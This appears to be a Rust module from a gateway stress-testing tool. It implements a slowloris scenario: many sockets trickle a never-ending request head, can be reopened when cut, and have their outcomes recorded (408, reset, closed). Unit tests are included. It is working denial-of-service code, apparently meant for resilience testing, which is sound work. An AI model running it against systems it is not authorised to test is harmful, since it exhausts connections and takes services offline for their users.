//! `slowloris`: sockets that send a plausible upgrade request head one
//! trickle (`--bytes-per-tick`, default 1 byte) every `--interval`, never
//! finishing it. Records how each socket ended — `408` (the gateway's answer
//! at its deadline), `closed` (closed without an answer), `reset`, another
//! status such as `431`, or `held_to_end` — and how long the gateway let it
//! live.

use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{sleep, Instant};

use super::{wait_stop, Ctx, Pacer};
use crate::cli::SlowlorisArgs;
use crate::client::{self, parse_response, Stream};
use crate::stats::Group;
use crate::token::TokenKind;

/// Default number of sockets.
pub const DEFAULT_COUNT: u64 = 100;

/// The endless tail after the real headers: never the blank line.
const PAD_LINE: &[u8] = b"X-Slow: aaaaaaaaaaaaaaaaaaaaaa\r\n";

/// Options of one slow socket.
#[derive(Debug, Clone, Copy)]
pub struct Trickle {
    /// Time between writes.
    pub interval: Duration,
    /// Bytes per write.
    pub bytes_per_tick: usize,
    /// Include a valid `Authorization` header.
    pub with_token: bool,
}

/// Runs the scenario.
pub async fn run(ctx: Arc<Ctx>, a: &SlowlorisArgs, g: Arc<Group>) {
    let n = ctx.share.part(a.common.count.unwrap_or(DEFAULT_COUNT));
    let t =
        Trickle { interval: a.interval, bytes_per_tick: a.bytes_per_tick.max(1), with_token: a.with_token };
    let sources = ctx.sources.clone();
    spawn_all(ctx, g, n, a.rate, t, sources, a.reopen).await;
}

/// Opens `n` slow sockets at `rate` per second (this worker's share is
/// applied by the caller for `n`, here for the rate) and waits for them;
/// with `reopen`, each socket the gateway cuts is opened again at once.
pub async fn spawn_all(
    ctx: Arc<Ctx>,
    g: Arc<Group>,
    n: u64,
    rate: f64,
    t: Trickle,
    sources: crate::target::SourcePool,
    reopen: bool,
) {
    let pacer = Pacer::new(ctx.share.rate(rate));
    let mut stop = ctx.stop.clone();
    let mut set = JoinSet::new();
    for i in 0..n {
        tokio::select! {
            _ = wait_stop(&mut stop) => break,
            _ = pacer.wait(i) => {}
        }
        let gi = ctx.share.global(i);
        if reopen {
            set.spawn(reopening(ctx.clone(), g.clone(), gi, sources.pick(gi), t));
        } else {
            let (ctx, g, source) = (ctx.clone(), g.clone(), sources.pick(gi));
            set.spawn(async move {
                one(ctx, g, gi, source, t).await;
            });
        }
        while set.try_join_next().is_some() {}
    }
    while set.join_next().await.is_some() {}
}

/// After a failed connect, wait this long before the next try, so that a
/// refusing gateway does not turn the attack into a busy loop.
const RECONNECT_PAUSE: Duration = Duration::from_millis(100);

/// One slot of a held attack: a slow socket, reopened each time it ends,
/// until the run stops. Counts `reopened`.
pub async fn reopening(ctx: Arc<Ctx>, g: Arc<Group>, gi: u64, source: Option<IpAddr>, t: Trickle) {
    let mut first = true;
    let mut stop = ctx.stop.clone();
    while !ctx.stopped() {
        if !first {
            g.add("reopened", 1);
        }
        first = false;
        if !one(ctx.clone(), g.clone(), gi, source, t).await {
            tokio::select! {
                _ = wait_stop(&mut stop) => break,
                _ = sleep(RECONNECT_PAUSE) => {}
            }
        }
    }
}

/// The `pos`-th byte of the request head: the real request lines, then
/// padding header lines forever.
fn head_byte(prefix: &[u8], pos: usize) -> u8 {
    if pos < prefix.len() {
        prefix[pos]
    } else {
        PAD_LINE[(pos - prefix.len()) % PAD_LINE.len()]
    }
}

/// One slow socket, until the gateway ends it or the run stops; false when
/// it could not even connect.
async fn one(ctx: Arc<Ctx>, g: Arc<Group>, gi: u64, source: Option<IpAddr>, t: Trickle) -> bool {
    let connected = match client::tcp_connect(ctx.target.addr, source, None, ctx.client.connect_timeout).await
    {
        Ok(tcp) => client::secure(tcp, &ctx.target, &ctx.client).await,
        Err(o) => Err(o),
    };
    let mut stream = match connected {
        Ok(s) => s,
        Err(o) => {
            g.add("connect_failed", 1);
            g.record_end(&o.status_key(), None);
            return false;
        }
    };
    g.add("opened", 1);
    g.opened();
    let since = Instant::now();
    let token = if t.with_token { ctx.minter.token(TokenKind::Valid, gi).ok().flatten() } else { None };
    let full = client::request_head(&ctx.target, &client::new_key(), token.as_deref(), &ctx.client);
    // Everything but the final blank line.
    let prefix = full.as_bytes()[..full.len() - 2].to_vec();
    drop(full);
    let (how, by_server) = trickle(&ctx, &mut stream, &prefix, t).await;
    g.record_end(&how, by_server.then(|| since.elapsed()));
    g.closed();
    true
}

/// Trickles until the server answers or closes, or the run stops.
/// Returns the end label and whether the server ended it.
async fn trickle(ctx: &Ctx, stream: &mut Stream, prefix: &[u8], t: Trickle) -> (String, bool) {
    let mut stop = ctx.stop.clone();
    let mut pos = 0usize;
    let mut answer: Vec<u8> = Vec::new();
    loop {
        tokio::select! {
            _ = wait_stop(&mut stop) => return ("held_to_end".into(), false),
            _ = sleep(t.interval) => {
                let chunk: Vec<u8> = (pos..pos + t.bytes_per_tick).map(|p| head_byte(prefix, p)).collect();
                if let Err(e) = stream.send_all(&chunk).await {
                    // The server may have answered just before closing.
                    let _ = tokio::time::timeout(Duration::ZERO, stream.read_some(&mut answer)).await;
                    if let Some(label) = answer_label(&answer) {
                        return (label, true);
                    }
                    return (client_label(&e), true);
                }
                pos += t.bytes_per_tick;
            }
            r = stream.read_some(&mut answer) => {
                match r {
                    Ok(0) => {
                        return (answer_label(&answer).unwrap_or_else(|| "closed".into()), true);
                    }
                    Ok(_) => {
                        if let Some(label) = answer_label(&answer) {
                            return (label, true);
                        }
                        if answer.len() > 4096 {
                            return ("bad_response".into(), true);
                        }
                    }
                    Err(e) => {
                        return (answer_label(&answer).unwrap_or_else(|| client_label(&e)), true);
                    }
                }
            }
        }
    }
}

/// The status of a (possibly partial) answer, once its status line is in.
fn answer_label(buf: &[u8]) -> Option<String> {
    if let Ok(Some((r, _))) = parse_response(buf) {
        return Some(r.status.to_string());
    }
    // A status line is enough: the server may close before the blank line.
    let line_end = buf.windows(2).position(|w| w == b"\r\n")?;
    let line = std::str::from_utf8(&buf[..line_end]).ok()?;
    let code = line.strip_prefix("HTTP/1.")?.split(' ').nth(1)?;
    code.parse::<u16>().ok().map(|c| c.to_string())
}

fn client_label(e: &std::io::Error) -> String {
    use std::io::ErrorKind::{BrokenPipe, ConnectionAborted, ConnectionReset};
    match e.kind() {
        ConnectionReset | BrokenPipe | ConnectionAborted => "reset".into(),
        _ => "io_error".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn head_never_ends() {
        let prefix = b"GET / HTTP/1.1\r\nHost: x\r\n";
        let bytes: Vec<u8> = (0..10_000).map(|p| head_byte(prefix, p)).collect();
        assert!(bytes.starts_with(prefix));
        assert!(!bytes.windows(4).any(|w| w == b"\r\n\r\n"));
    }

    #[test]
    fn answers_are_labelled() {
        assert_eq!(answer_label(b"HTTP/1.1 408 Request Timeout\r\n"), Some("408".into()));
        assert_eq!(answer_label(b"HTTP/1.1 431 x\r\nA: b\r\n\r\n"), Some("431".into()));
        assert_eq!(answer_label(b"HTTP/1.1 40"), None);
        assert_eq!(answer_label(b""), None);
    }
}
